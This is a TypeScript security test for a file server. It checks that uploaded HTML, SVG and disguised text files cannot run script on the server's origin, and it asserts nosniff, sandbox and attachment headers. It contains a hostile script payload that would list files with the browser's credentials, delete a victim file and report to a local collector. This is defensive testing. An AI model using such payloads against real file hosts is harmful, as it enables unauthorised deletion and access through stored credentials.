/**
 * A hostile file in the drive never runs as our page (RELIABILITY.md, "File bytes never run as our page"). The file's
 * script, if it ran on our origin, would PROPFIND the mount with the browser's Basic credentials, DELETE a file, and
 * report both to a collector on another loopback port. Headless Chromium opens it through /dav/ (credentials in the
 * browser context) and through a proxied /d/ link; afterwards the victim file still exists and the collector heard
 * nothing. The header test pins the exact headers on every route that sends file bytes.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser, type LaunchedBrowser } from '../helpers/browser.js'
import { PASSWORD, startStack, USER, type Stack } from '../helpers/stack.js'

let s: Stack
let browser: LaunchedBrowser
let collector: Server
let collectorUrl = ''
const reports: string[] = []

function hostilePage(): string {
  // Runs only if the browser renders the file as a page of our origin with scripts enabled.
  return `<!doctype html><meta charset="utf-8"><title>hostile</title><script>
(async () => {
  const report = (what) => fetch(${JSON.stringify(collectorUrl)} + '/' + what, { mode: 'no-cors' }).catch(() => {})
  report('ran')
  try {
    const listing = await fetch('/dav/', { method: 'PROPFIND', headers: { Depth: '1' } })
    const text = await listing.text()
    if (text.includes('victim.txt')) report('listing-read')
  } catch (e) { report('listing-failed') }
  try {
    const del = await fetch('/dav/victim.txt', { method: 'DELETE' })
    if (del.ok) report('deleted')
  } catch (e) { report('delete-failed') }
  report('finished')
})()
</script>`
}

beforeAll(async () => {
  collector = createServer((req, res) => {
    reports.push(req.url ?? '')
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r))
  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`
  const page = hostilePage()
  s = await startStack({
    seed: [
      { path: '/victim.txt', content: 'keep me' },
      { path: '/hostile.html', content: page },
      {
        path: '/hostile.svg',
        content: `<svg xmlns="http://www.w3.org/2000/svg"><script>${page.replace(/^[\s\S]*<script>|<\/script>$/g, '')}</script></svg>`,
      },
      // HTML bytes under a text name: only nosniff keeps the browser from rendering it as HTML.
      { path: '/notes.txt', content: page },
      { path: '/photo.png', content: 'not really a png' },
    ],
  })
  browser = await launchBrowser()
}, 60_000)

afterAll(async () => {
  await browser?.close()
  await s?.close()
  await new Promise((r) => collector?.close(r))
})

/** Opens `url` in a fresh context; a download (attachment) makes goto throw, which is the point. */
async function open(url: string, withCredentials: boolean): Promise<void> {
  const context = await browser.browser.newContext({
    acceptDownloads: true,
    ...(withCredentials ? { httpCredentials: { username: USER, password: PASSWORD } } : {}),
  })
  try {
    const page = await context.newPage()
    await page.goto(url).catch(() => undefined)
    // Give a script that did run the chance to report 'finished' (milliseconds on loopback); waiting proves absence.
    const deadline = Date.now() + 2000
    while (Date.now() < deadline && !reports.some((r) => r.endsWith('/finished')))
      await new Promise((r) => setTimeout(r, 100))
  } finally {
    await context.close()
  }
}

describe('a hostile file opened in a browser', () => {
  it.each([
    ['/dav/hostile.html', true],
    ['/dav/hostile.svg', true],
    ['/dav/notes.txt', true],
    ['/d/hostile.html?proxy=1', false],
    ['/d/hostile.svg?proxy=1', false],
  ])(
    '%s can neither read a listing nor delete a file',
    async (route, withCredentials) => {
      reports.length = 0
      let url = `${s.server.url}${route}`
      if (!withCredentials) url = s.server.signedUrl(route.replace(/\?.*$/, '').slice(2)) + '&proxy=1'
      await open(url, withCredentials)
      expect(reports).toEqual([])
      const victim = await fetch(`${s.server.url}/dav/victim.txt`, { headers: { Authorization: s.basic } })
      expect(victim.status).toBe(200)
      expect(await victim.text()).toBe('keep me')
    },
    30_000,
  )
})

describe('file-bytes headers', () => {
  const get = (path: string, method = 'GET') =>
    fetch(`${s.server.url}${path}`, { method, headers: { Authorization: s.basic }, redirect: 'manual' })

  it.each([
    ['/dav/hostile.html', 'GET'],
    ['/dav/hostile.html', 'HEAD'],
    ['/d/hostile.html?proxy=1', 'GET'],
    ['/d/hostile.html?proxy=1', 'HEAD'],
    ['/dav/hostile.svg', 'GET'],
  ])('%s %s: nosniff, sandbox, attachment', async (path, method) => {
    const r = await get(path, method)
    await r.arrayBuffer()
    expect(r.status).toBe(200)
    expect(r.headers.get('x-content-type-options')).toBe('nosniff')
    expect(r.headers.get('content-security-policy')).toBe('sandbox')
    expect(r.headers.get('content-disposition')).toMatch(
      /^attachment; filename="hostile\.(html|svg)"; filename\*=UTF-8''hostile\.(html|svg)$/,
    )
  })

  it.each(['/dav/photo.png', '/dav/notes.txt', '/d/photo.png?proxy=1'])(
    '%s stays inline, still nosniff and sandboxed',
    async (path) => {
      const r = await get(path)
      await r.arrayBuffer()
      expect(r.status).toBe(200)
      expect(r.headers.get('x-content-type-options')).toBe('nosniff')
      expect(r.headers.get('content-security-policy')).toBe('sandbox')
      expect(r.headers.get('content-disposition')).toBeNull()
    },
  )
})
